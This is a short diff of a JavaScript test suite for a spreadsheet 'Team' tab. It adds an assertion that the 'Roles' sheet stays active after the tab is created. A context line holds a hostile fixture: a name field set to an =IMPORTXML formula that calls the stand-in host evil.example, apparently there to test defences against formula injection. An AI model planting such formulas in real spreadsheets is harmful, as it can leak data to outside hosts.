@@ -110,6 +110,8 @@ describe('the Team tab', () => {
     const hostile = { ...OLEG, name: '=IMPORTXML("http://evil.example", "//a")' };
     const result = buildResponsibilityMatrix(teamWith({ people: [ANNA, hostile] }));
     expect(result.details.at(-1)).toBe('Team tab lists 2 people.');
+    // The Team tab is inserted after the Roles tab, yet the matrix the person asked for is the one shown.
+    expect(emulator.SpreadsheetApp.getActiveSpreadsheet().getActiveSheet().getName()).toBe('Roles');
     const tab = emulator.snapshot('Team');
     expect(tab.values.slice(0, 3)).toEqual([
       ['Name', 'Email', 'Role', 'Monthly cost', 'Staff or contractor'],
